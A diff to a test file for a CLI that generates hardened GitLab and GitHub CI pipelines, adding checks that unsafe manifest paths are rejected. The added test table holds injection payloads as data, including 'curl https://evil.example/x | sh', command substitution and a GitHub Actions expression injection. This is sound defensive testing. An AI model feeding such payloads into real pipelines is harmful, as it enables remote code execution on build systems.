@@ -18,7 +18,8 @@ describe('kube-harden ci-gate', () => {
     expect(result.code).toBe(0);
     const pipeline = parse(result.stdout);
     expect(pipeline.stages).toEqual([...CI_GATE_STAGES]);
-    expect(pipeline.push.script.join('\n')).toContain('registry.example.cn/pay/api');
+    expect(pipeline.variables.RELEASE_IMAGE).toBe('registry.example.cn/pay/api');
+    expect(pipeline.push.script.join('\n')).toContain('"$RELEASE_IMAGE"');
   });
 
   test('--ci github prints a workflow with one job per gate stage', async () => {
@@ -37,9 +38,30 @@ describe('kube-harden ci-gate', () => {
     const image = `registry.k8s.io/kubectl:v1.31.4@sha256:${'c'.repeat(64)}`;
     const result = await cli(['ci-gate', '--ci', 'gitlab', '--kubectl-image', image]);
     expect(result.code).toBe(0);
-    expect(parse(result.stdout).deploy.script.join('\n')).toContain(image);
+    expect(parse(result.stdout).variables.KUBECTL_IMAGE).toBe(image);
     const unpinned = await cli(['ci-gate', '--ci', 'gitlab', '--kubectl-image', 'registry.k8s.io/kubectl:v1.31.4']);
     expect(unpinned.code).toBe(2);
     expect(unpinned.stderr).toMatch(/kubectlImage: is not pinned by digest/);
+  });
+
+  test.each([
+    ['github', 'dist; curl https://evil.example/x | sh #'],
+    ['gitlab', 'dist; curl https://evil.example/x | sh #'],
+    ['github', '$(id)'],
+    ['gitlab', 'dist\nid'],
+    ['github', '${{ github.event.head_commit.message }}'],
+  ])('--ci %s --manifests %j: exit 2, nothing printed, the field named with the value escaped', async (ci, manifests) => {
+    const result = await cli(['ci-gate', '--ci', ci, '--manifests', manifests]);
+    expect(result.code).toBe(2);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toMatch(/manifestsDir: is not a relative path of safe characters/);
+    expect(result.stderr).toContain(JSON.stringify(manifests));
+  });
+
+  test('a valid --manifests reaches the pipeline as a variable, quoted in the scripts', async () => {
+    const result = await cli(['ci-gate', '--ci', 'github', '--manifests', 'deploy/k8s/']);
+    const workflow = parse(result.stdout);
+    expect(workflow.env.MANIFESTS_DIR).toBe('deploy/k8s');
+    expect(workflow.jobs.deploy.steps.at(-1).run).toContain('kustomize "$MANIFESTS_DIR" > deploy.yaml');
   });
 });
